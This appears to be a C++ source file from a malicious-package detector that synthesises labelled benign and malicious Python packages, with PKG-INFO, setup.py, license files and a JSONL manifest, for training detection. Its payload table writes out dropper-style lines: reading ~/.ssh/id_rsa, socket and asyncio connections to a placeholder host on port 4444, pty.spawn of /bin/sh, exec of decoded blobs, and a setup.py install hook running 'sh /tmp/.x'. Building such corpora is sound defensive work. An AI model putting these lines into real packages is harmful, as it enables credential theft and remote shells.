#include "sentinel/corpus.hpp"

#include "sentinel/error.hpp"
#include "sentinel/rng.hpp"
#include "sentinel/text.hpp"

#include <json.hpp>

#include <algorithm>
#include <cmath>
#include <fstream>
#include <map>
#include <optional>
#include <sstream>

namespace sentinel {

namespace fs = std::filesystem;

std::string_view to_string(Trait trait) {
  switch (trait) {
  case Trait::NoHomepage: return "no-homepage";
  case Trait::BadEmail: return "bad-email";
  case Trait::InstallHook: return "install-hook";
  case Trait::HttpIpUrl: return "http-ip-url";
  case Trait::LongB64String: return "long-b64-string";
  case Trait::MinimalCfg: return "minimal-cfg";
  case Trait::LicenseClash: return "license-clash";
  }
  return "unknown";
}

const std::vector<Trait>& all_traits() {
  static const std::vector<Trait> traits = {Trait::NoHomepage,    Trait::BadEmail,   Trait::InstallHook,
                                            Trait::HttpIpUrl,     Trait::LongB64String, Trait::MinimalCfg,
                                            Trait::LicenseClash};
  return traits;
}

Trait trait_from_string(std::string_view name) {
  auto n = ascii_lower(trim(name));
  for (auto t : all_traits()) {
    if (n == to_string(t)) {
      return t;
    }
  }
  throw Error(ErrorCode::InvalidArgument, "unknown trait '" + std::string(name) + "'");
}

StructuredFeature trait_feature(Trait trait) {
  switch (trait) {
  case Trait::NoHomepage: return StructuredFeature::InvalidHomepage;
  case Trait::BadEmail: return StructuredFeature::InvalidAuthorEmail;
  case Trait::InstallHook: return StructuredFeature::InstallCommand;
  case Trait::HttpIpUrl: return StructuredFeature::SuspiciousUrl;
  case Trait::LongB64String: return StructuredFeature::LongString;
  case Trait::MinimalCfg: return StructuredFeature::MinimumSetupConfig;
  case Trait::LicenseClash: return StructuredFeature::MismatchLicense;
  }
  throw Error(ErrorCode::InvalidArgument, "unknown trait");
}

StructuredVector expected_structured(const std::set<Trait>& traits) {
  StructuredVector v{};
  for (auto t : traits) {
    v[static_cast<std::size_t>(trait_feature(t))] = true;
  }
  return v;
}

// ---------------------------------------------------------------------------
// package synthesis

namespace {

template <class T> const T& pick(Rng& rng, const std::vector<T>& items) {
  return items[static_cast<std::size_t>(rng.below(items.size()))];
}

const std::vector<std::string> kSyllables = {"ba", "co", "di", "fu", "ga", "le", "mi", "no", "pa", "ri",
                                             "so", "tu", "ve", "za", "lo", "ke", "xi", "ru", "den", "tor"};
const std::vector<std::string> kUsers = {"alice", "bkumar", "carol", "dmitri", "evelyn", "farah",  "gopal",
                                         "hana",  "ivan",   "junwei", "kofi",  "lena",   "mateo",  "nora",
                                         "omar",  "priya",  "quinn", "rosa",   "sanjay", "tomasz", "uma"};
const std::vector<std::string> kNouns = {"config", "records", "events", "tokens", "images", "frames", "paths",
                                         "rows",   "metrics", "queues", "nodes",  "labels", "units",  "blocks"};
const std::vector<std::string> kVerbs = {"parse", "merge", "format", "collect", "render", "split",
                                         "filter", "encode", "group", "resolve", "convert", "index"};
const std::vector<std::string> kAdjectives = {"Simple", "Fast", "Tiny", "Modern", "Friendly", "Typed", "Lazy"};
const std::vector<std::string> kRequirements = {"requests", "click", "numpy", "six", "attrs", "pyyaml", "rich"};
const std::vector<std::string> kModuleNames = {"core", "utils", "helpers", "compat", "base", "models", "io_tools"};

std::string random_name(Rng& rng) {
  std::string name;
  std::size_t n = 2 + static_cast<std::size_t>(rng.below(2));
  for (std::size_t i = 0; i < n; ++i) {
    name += pick(rng, kSyllables);
  }
  return name;
}

std::string random_ip(Rng& rng) {
  std::string ip;
  for (int i = 0; i < 4; ++i) {
    if (i) ip += '.';
    ip += std::to_string(1 + rng.below(254));
  }
  return ip;
}

std::string random_base64(Rng& rng, std::size_t length) {
  static constexpr std::string_view alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < length; ++i) {
    out += alphabet[static_cast<std::size_t>(rng.below(alphabet.size()))];
  }
  if (length % 4 == 0) {
    out.back() = '=';
  }
  return out;
}

struct LicenseFamily {
  std::string field;
  std::string classifier;
  std::string text;
};

LicenseFamily license_family(std::string_view family, const std::string& holder) {
  if (family == "MIT") {
    return {"MIT", "License :: OSI Approved :: MIT License",
            "MIT License\n\nCopyright (c) 2021 " + holder +
                "\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\n"
                "of this software and associated documentation files (the \"Software\"), to deal\n"
                "in the Software without restriction, including without limitation the rights\n"
                "to use, copy, modify, merge, publish, distribute, sublicense, and/or sell\n"
                "copies of the Software.\n"};
  }
  if (family == "BSD") {
    return {"BSD-3-Clause", "License :: OSI Approved :: BSD License",
            "BSD 3-Clause License\n\nCopyright (c) 2020, " + holder +
                "\nAll rights reserved.\n\nRedistribution and use in source and binary forms, with or without\n"
                "modification, are permitted provided that the following conditions are met.\n"};
  }
  if (family == "Apache") {
    return {"Apache-2.0", "License :: OSI Approved :: Apache Software License",
            "                                 Apache License\n                           Version 2.0, January 2004\n\n"
            "   TERMS AND CONDITIONS FOR USE, REPRODUCTION, AND DISTRIBUTION\n\n   Copyright 2022 " +
                holder + "\n"};
  }
  return {"GPL-3.0", "License :: OSI Approved :: GNU General Public License v3 (GPLv3)",
          "                    GNU GENERAL PUBLIC LICENSE\n                       Version 3, 29 June 2007\n\n"
          " Copyright (C) 2007 Free Software Foundation, Inc.\n"};
}

// One call site per API. Payload lines mimic droppers; benign lines mimic library code.
std::vector<std::string> api_lines(std::string_view api, Label label) {
  static const std::map<std::string, std::vector<std::string>, std::less<>> payload = {
      {"getattr", {"getattr(__import__(\"os\"), \"system\")(cmd)"}},
      {"setattr", {"setattr(sys.modules[__name__], \"hook\", blob)"}},
      {"exit", {"sys.exit(0)"}},
      {"Thread", {"threading.Thread(target=beacon, daemon=True).start()"}},
      {"system", {"os.system(\"chmod +x /tmp/.cache && /tmp/.cache\")"}},
      {"clear", {"history.clear()"}},
      {"open", {"stolen = open(os.path.expanduser(\"~/.ssh/id_rsa\"))"}},
      {"open_connection", {"reader, writer = asyncio.open_connection(host, 4444)"}},
      {"connect", {"sock = socket.socket()", "sock.connect((host, 4444))"}},
      {"read", {"secrets = handle.read()"}},
      {"input", {"token = input(\"token: \")"}},
      {"mkdtemp", {"stage = tempfile.mkdtemp()"}},
      {"spawn", {"pty.spawn(\"/bin/sh\")"}},
      {"call", {"subprocess.call([\"sh\", \"-c\", cmd])"}},
      {"exec", {"exec(compile(blob, \"<string>\", \"exec\"))"}},
      {"eval", {"eval(blob)"}},
      {"b64decode", {"blob = base64.b64decode(blob)"}},
      {"b32decode", {"blob = base64.b32decode(blob)"}},
      {"urlopen", {"beacon = urllib.request.urlopen(target)"}},
      {"popen", {"whoami = os.popen(\"id\").read()"}},
  };
  static const std::map<std::string, std::vector<std::string>, std::less<>> ordinary = {
      {"getattr", {"value = getattr(settings, name, default)"}},
      {"setattr", {"setattr(settings, name, value)"}},
      {"exit", {"sys.exit(status)"}},
      {"Thread", {"worker = threading.Thread(target=refresh)"}},
      {"system", {"shell = platform.system()"}},
      {"clear", {"cache.clear()"}},
      {"open", {"with open(path, encoding=\"utf-8\") as handle:", "    lines = handle.readlines()"}},
      {"open_connection", {"stream = asyncio.open_connection(hostname, port)"}},
      {"connect", {"conn = sqlite3.connect(path)"}},
      {"read", {"content = stream.read()"}},
      {"input", {"answer = input(\"Continue? \")"}},
      {"mkdtemp", {"workdir = tempfile.mkdtemp()"}},
      {"spawn", {"proc = pexpect.spawn(\"git status\")"}},
      {"call", {"status = subprocess.call([\"git\", \"status\"])"}},
      {"exec", {"exec(snippet, namespace)"}},
      {"eval", {"result = eval(expression, namespace)"}},
      {"b64decode", {"raw = base64.b64decode(encoded)"}},
      {"b32decode", {"raw = base64.b32decode(encoded)"}},
      {"urlopen", {"response = urllib.request.urlopen(request)"}},
      {"popen", {"listing = os.popen(\"ls\").readlines()"}},
  };
  const auto& table = label == Label::Malicious ? payload : ordinary;
  auto it = table.find(api);
  if (it == table.end()) {
    // unknown API names still produce a plain call site
    return {"result = " + std::string(api) + "(value)"};
  }
  return it->second;
}

std::string noise_module(Rng& rng) {
  std::string out = "\"\"\"Helpers for " + pick(rng, kNouns) + ".\"\"\"\n\n";
  std::size_t n = 1 + static_cast<std::size_t>(rng.below(3));
  for (std::size_t i = 0; i < n; ++i) {
    std::string fn = pick(rng, kVerbs) + "_" + pick(rng, kNouns);
    std::string arg = pick(rng, kNouns);
    switch (rng.below(3)) {
    case 0:
      out += "def " + fn + "(" + arg + "):\n    result = []\n    for item in " + arg +
             ":\n        if item:\n            result.append(item)\n    return result\n\n\n";
      break;
    case 1: {
      std::string cls = kAdjectives[static_cast<std::size_t>(rng.below(kAdjectives.size()))] + "Store";
      out += "class " + cls + ":\n    def __init__(self, " + arg + "):\n        self." + arg + " = " + arg +
             "\n\n    def " + fn + "(self):\n        return len(self." + arg + ")\n\n\n";
      break;
    }
    default:
      out += "def " + fn + "(" + arg + ", scale=None):\n    total = 0\n    for value in " + arg +
             ":\n        total += value\n    return total if scale is None else total * scale\n\n\n";
      break;
    }
  }
  return out;
}

struct PackageText {
  std::string name;
  std::string pkg; // import name
  std::string version;
  std::string user;
  std::string summary;
};

PackageText package_identity(const TraitSpec& spec) {
  Rng rng(derive_seed(spec.seed, {0x1d}));
  PackageText id;
  id.name = spec.name.empty() ? random_name(rng) : spec.name;
  id.pkg = id.name;
  std::replace(id.pkg.begin(), id.pkg.end(), '-', '_');
  id.version = std::to_string(rng.below(3)) + "." + std::to_string(1 + rng.below(9)) + "." +
               std::to_string(rng.below(20));
  id.user = pick(rng, kUsers);
  do {
    id.summary = pick(rng, kAdjectives) + " " + pick(rng, kVerbs) + " tools for " + pick(rng, kNouns);
  } while (id.summary.size() > 40);
  return id;
}

} // namespace

std::string synth_stem(const TraitSpec& spec) {
  auto id = package_identity(spec);
  return id.name + "-" + id.version;
}

std::vector<ArchiveMember> synth_members(const TraitSpec& spec) {
  const auto id = package_identity(spec);
  Rng rng(derive_seed(spec.seed, {0x5e}));
  const bool malicious = spec.label == Label::Malicious;
  auto has = [&](Trait t) { return spec.traits.contains(t); };
  const std::string root = id.name + "-" + id.version + "/";
  std::vector<ArchiveMember> members;
  auto add_file = [&](const std::string& path, std::string content) {
    members.push_back({root + path, std::move(content), ArchiveMember::Type::File, {}});
  };
  members.push_back({root, {}, ArchiveMember::Type::Directory, {}});

  // licensing
  static const std::vector<std::string> families = {"MIT", "BSD", "Apache"};
  const std::string family = pick(rng, families);
  auto lic = license_family(family, id.user);
  std::optional<std::string> field = lic.field;
  std::optional<std::string> classifier = lic.classifier;
  std::optional<std::string> license_text = lic.text;
  if (has(Trait::LicenseClash)) {
    switch (rng.below(3)) {
    case 0: { // classifier disagrees with field and file
      std::string other = family == "MIT" ? "Apache" : "MIT";
      classifier = license_family(other, id.user).classifier;
      break;
    }
    case 1: { // file disagrees
      license_text = license_family("GPL", id.user).text;
      break;
    }
    default: // no license information anywhere
      field.reset();
      classifier.reset();
      license_text.reset();
      break;
    }
  }

  // PKG-INFO
  std::string info = "Metadata-Version: 2.1\nName: " + id.name + "\nVersion: " + id.version + "\nSummary: " +
                     id.summary + "\n";
  if (has(Trait::NoHomepage)) {
    switch (rng.below(3)) {
    case 0: break;
    case 1: info += "Home-page: http://github.com/" + id.user + "/" + id.name + "\n"; break;
    default: info += "Home-page: https://" + id.name + "-downloads.xyz/\n"; break;
    }
  } else {
    info += "Home-page: https://github.com/" + id.user + "/" + id.name + "\n";
  }
  info += "Author: " + id.user + "\n";
  if (has(Trait::BadEmail)) {
    switch (rng.below(3)) {
    case 0: break;
    case 1: info += "Author-email: " + id.user + "@localhost\n"; break;
    default: info += "Author-email: " + id.user + " at mail\n"; break;
    }
  } else {
    info += "Author-email: " + id.user + "@gmail.com\n";
  }
  if (field) {
    info += "License: " + *field + "\n";
  }
  info += "Classifier: Programming Language :: Python :: 3\n";
  if (classifier) {
    info += "Classifier: " + *classifier + "\n";
  }
  info += "Requires-Python: >=3.7\n\n" + id.summary + "\n";
  add_file("PKG-INFO", info);

  if (license_text) {
    add_file("LICENSE", *license_text);
  }

  // setup.cfg
  if (has(Trait::MinimalCfg)) {
    switch (rng.below(4)) {
    case 0: break;
    case 1: add_file("setup.cfg", "[egg_info]\ntag_build = \ntag_date = 0\n\n"); break;
    case 2: add_file("setup.cfg", "[metadata]\nname = " + id.name + "\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n"); break;
    default: add_file("setup.cfg", "[bdist_wheel]\nuniversal = 1\n"); break;
    }
  } else {
    std::string cfg = "[metadata]\nname = " + id.name + "\nversion = " + id.version + "\nauthor = " + id.user +
                      "\ndescription = " + id.summary + "\n";
    if (field) {
      cfg += "license = " + *field + "\n";
    }
    cfg += "\n[options]\npackages = find:\npython_requires = >=3.7\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";
    add_file("setup.cfg", cfg);
  }

  // package code
  members.push_back({root + id.pkg + "/", {}, ArchiveMember::Type::Directory, {}});
  std::vector<std::string> module_names;
  std::string first_fn;
  for (std::size_t i = 0; i < spec.noise_modules; ++i) {
    std::string mod = pick(rng, kModuleNames);
    if (std::find(module_names.begin(), module_names.end(), mod) != module_names.end()) {
      mod += std::to_string(i);
    }
    module_names.push_back(mod);
    add_file(id.pkg + "/" + mod + ".py", noise_module(rng));
  }
  add_file(id.pkg + "/__init__.py", "__version__ = \"" + id.version + "\"\n");

  const bool code_in_setup = malicious && rng.bernoulli(0.5);
  std::vector<std::string> call_lines;
  for (const auto& api : spec.suspicious_apis) {
    for (auto& line : api_lines(api, spec.label)) {
      call_lines.push_back(std::move(line));
    }
  }
  std::string long_literal;
  if (has(Trait::LongB64String)) {
    long_literal = random_base64(rng, 48 + static_cast<std::size_t>(rng.below(153)));
  }

  std::string imports = malicious ? "import asyncio\nimport base64\nimport os\nimport pty\nimport socket\n"
                                    "import subprocess\nimport sys\nimport tempfile\nimport threading\n"
                                    "import urllib.request\n"
                                  : "import asyncio\nimport base64\nimport os\nimport platform\nimport sqlite3\n"
                                    "import subprocess\nimport sys\nimport tempfile\nimport threading\n"
                                    "import urllib.request\n";
  std::string prelude = malicious ? "host = \"relay-" + pick(rng, kNouns) + "\"\ncmd = \"uname -a\"\nblob = \"\"\n"
                                  : "";
  std::string body;
  if (!long_literal.empty()) {
    body += (malicious ? "_stage = \"" : "_ICON = \"") + long_literal + "\"\n";
  }
  if (!call_lines.empty()) {
    body += malicious ? "\n\ndef _bootstrap():\n" : "\n\ndef load(path, name=None, default=None, settings=None):\n";
    for (const auto& line : call_lines) {
      body += "    " + line + "\n";
    }
    if (malicious) {
      body += "\n\n_bootstrap()\n";
    }
  }

  // setup.py
  std::string setup = "from setuptools import setup, find_packages\n";
  if (has(Trait::InstallHook)) {
    setup += "from setuptools.command.install import install\n";
  }
  if (code_in_setup || has(Trait::InstallHook)) {
    setup += "\n" + imports;
  }
  std::string hook_class;
  if (has(Trait::InstallHook)) {
    static const std::vector<std::string> names = {"PostInstall", "CustomInstall", "InstallCommand"};
    hook_class = pick(rng, names);
    std::string hook_call = malicious ? "os.system(\"sh /tmp/.x\")" : "subprocess.call([sys.executable, \"-m\", \"compileall\"])";
    setup += "\n\nclass " + hook_class + "(install):\n    def run(self):\n        install.run(self)\n        " +
             hook_call + "\n";
  }
  if (code_in_setup && (!body.empty())) {
    setup += "\n" + prelude + body;
  }
  setup += "\n\nsetup(\n    name=\"" + id.name + "\",\n    version=\"" + id.version + "\",\n    author=\"" + id.user +
           "\",\n    description=\"" + id.summary + "\",\n    packages=find_packages(),\n";
  if (rng.bernoulli(0.6)) {
    setup += "    install_requires=[\"" + pick(rng, kRequirements) + "\"],\n";
  }
  setup += "    python_requires=\">=3.7\",\n";
  if (!hook_class.empty()) {
    setup += "    cmdclass={\"install\": " + hook_class + "},\n";
  }
  setup += ")\n";
  add_file("setup.py", setup);

  if (!code_in_setup && !body.empty()) {
    add_file(id.pkg + "/_runtime.py", imports + "\n" + prelude + body);
  }

  if (has(Trait::HttpIpUrl)) {
    std::string ip = random_ip(rng);
    std::string net = malicious ? "import urllib.request\n\nENDPOINT = \"http://" + ip +
                                      "/p\"\n\n\ndef fetch():\n    return urllib.request.urlopen(ENDPOINT)\n"
                                : "MIRROR = \"http://" + ip + ":8080/p\"\n\n\ndef mirror():\n    return MIRROR\n";
    add_file(id.pkg + "/net.py", net);
  }
  std::sort(members.begin(), members.end(),
            [](const ArchiveMember& a, const ArchiveMember& b) { return a.name < b.name; });
  return members;
}

std::filesystem::path synth_package(const TraitSpec& spec, const fs::path& out_dir) {
  auto members = synth_members(spec);
  std::error_code ec;
  fs::create_directories(out_dir, ec);
  if (ec) {
    throw Error(ErrorCode::IoError, "cannot create '" + out_dir.string() + "': " + ec.message());
  }
  auto path = out_dir / (synth_stem(spec) + ".tar.gz");
  write_file(path, gzip_compress(build_tar(members)));
  return path;
}

// ---------------------------------------------------------------------------
// corpus

std::vector<TraitSpec> corpus_specs(std::size_t n_benign, std::size_t n_malicious, double ambiguity,
                                    std::uint64_t seed) {
  if (!(ambiguity >= 0.0 && ambiguity <= 1.0)) {
    throw Error(ErrorCode::InvalidArgument, "ambiguity must lie in [0, 1]");
  }
  static const std::vector<std::string> apis = [] {
    auto cfg = ScanConfig::defaults();
    return std::vector<std::string>(cfg.api_list.begin(), cfg.api_list.end());
  }();
  std::vector<std::string> payload_only;
  for (const auto& a : apis) {
    if (a != "getattr" && a != "open") {
      payload_only.push_back(a);
    }
  }
  auto ambiguous_count = [&](std::size_t n) {
    return static_cast<std::size_t>(std::floor(static_cast<double>(n) * ambiguity + 1e-9));
  };
  auto choose = [](Rng& rng, std::vector<std::string> pool, std::size_t k) {
    rng.shuffle(pool);
    pool.resize(std::min(k, pool.size()));
    std::sort(pool.begin(), pool.end());
    return pool;
  };

  std::vector<TraitSpec> specs;
  const std::size_t amb_b = ambiguous_count(n_benign);
  for (std::size_t i = 0; i < n_benign; ++i) {
    Rng rng(derive_seed(seed, {0, i}));
    TraitSpec s;
    s.label = Label::Benign;
    s.seed = derive_seed(seed, {0, i, 1});
    s.noise_modules = 1 + static_cast<std::size_t>(rng.below(3));
    if (i < amb_b) {
      s.traits.insert(pick(rng, all_traits()));
      s.suspicious_apis = choose(rng, {"getattr", "open"}, 1 + static_cast<std::size_t>(rng.below(2)));
    }
    specs.push_back(std::move(s));
  }
  const std::size_t amb_m = ambiguous_count(n_malicious);
  for (std::size_t i = 0; i < n_malicious; ++i) {
    Rng rng(derive_seed(seed, {1, i}));
    TraitSpec s;
    s.label = Label::Malicious;
    s.seed = derive_seed(seed, {1, i, 1});
    s.noise_modules = 1 + static_cast<std::size_t>(rng.below(3));
    if (i < amb_m) {
      s.traits.insert(pick(rng, all_traits()));
      s.suspicious_apis = choose(rng, payload_only, 2 + static_cast<std::size_t>(rng.below(3)));
    } else {
      auto traits = all_traits();
      rng.shuffle(traits);
      std::size_t k = 2 + static_cast<std::size_t>(rng.below(kTraitCount - 1));
      s.traits.insert(traits.begin(), traits.begin() + static_cast<std::ptrdiff_t>(k));
      s.suspicious_apis = choose(rng, apis, 1 + static_cast<std::size_t>(rng.below(5)));
    }
    specs.push_back(std::move(s));
  }
  Rng order(derive_seed(seed, {2}));
  order.shuffle(specs);
  for (std::size_t j = 0; j < specs.size(); ++j) {
    Rng rng(derive_seed(seed, {3, j}));
    specs[j].name = random_name(rng) + std::to_string(j);
  }
  return specs;
}

CorpusManifest generate_corpus(std::size_t n_benign, std::size_t n_malicious, double ambiguity, std::uint64_t seed,
                               const fs::path& out_dir) {
  if (n_benign == 0 || n_malicious == 0) {
    throw Error(ErrorCode::InvalidArgument, "a corpus needs at least one package of each class");
  }
  auto specs = corpus_specs(n_benign, n_malicious, ambiguity, seed);
  CorpusManifest manifest;
  for (const auto& spec : specs) {
    auto path = synth_package(spec, out_dir / "packages");
    manifest.entries.push_back({"packages/" + path.filename().string(), spec.label});
  }
  write_manifest(manifest, out_dir / "manifest.jsonl");
  return manifest;
}

std::string manifest_jsonl(const CorpusManifest& manifest) {
  std::string out;
  for (const auto& e : manifest.entries) {
    nlohmann::ordered_json j;
    j["path"] = e.path;
    j["label"] = to_string(e.label);
    out += j.dump() + "\n";
  }
  return out;
}

void write_manifest(const CorpusManifest& manifest, const fs::path& path) {
  if (path.has_parent_path()) {
    std::error_code ec;
    fs::create_directories(path.parent_path(), ec);
  }
  write_file(path, manifest_jsonl(manifest));
}

CorpusManifest read_manifest(const fs::path& path) {
  auto text = read_file(path);
  CorpusManifest manifest;
  std::size_t lineno = 0;
  for (auto line : split_lines(text)) {
    ++lineno;
    if (trim(line).empty()) {
      continue;
    }
    try {
      auto j = nlohmann::json::parse(line);
      manifest.entries.push_back({j.at("path").get<std::string>(), label_from_string(j.at("label").get<std::string>())});
    } catch (const std::exception& e) {
      throw Error(ErrorCode::Corrupt, path.string() + ":" + std::to_string(lineno) + ": " + e.what());
    }
  }
  return manifest;
}

namespace {

fs::path resolve_entry(const fs::path& manifest_path, const std::string& entry) {
  fs::path p(entry);
  return p.is_absolute() ? p : manifest_path.parent_path() / p;
}

PackageSnapshot open_entry(const fs::path& manifest_path, const ManifestEntry& entry, const SizeLimits& limits) {
  auto path = resolve_entry(manifest_path, entry.path);
  try {
    return open_package(path, limits);
  } catch (const Error& e) {
    throw Error(e.code(), path.string() + ": " + e.what());
  }
}

} // namespace

std::vector<LabeledPackage> load_labeled_corpus(const fs::path& manifest_path, const SizeLimits& limits) {
  auto manifest = read_manifest(manifest_path);
  std::vector<LabeledPackage> out;
  for (const auto& e : manifest.entries) {
    out.push_back({e.path, open_entry(manifest_path, e, limits), e.label});
  }
  return out;
}

std::vector<DatasetRecord> extract_dataset(const fs::path& manifest_path, const ExtractionConfig& cfg,
                                           const SizeLimits& limits) {
  auto manifest = read_manifest(manifest_path);
  std::vector<DatasetRecord> out;
  for (const auto& e : manifest.entries) {
    auto snap = open_entry(manifest_path, e, limits);
    auto res = extract_features(snap, cfg);
    out.push_back({e.path, e.label, res.vector.structured, std::move(res.tokens)});
  }
  return out;
}

} // namespace sentinel
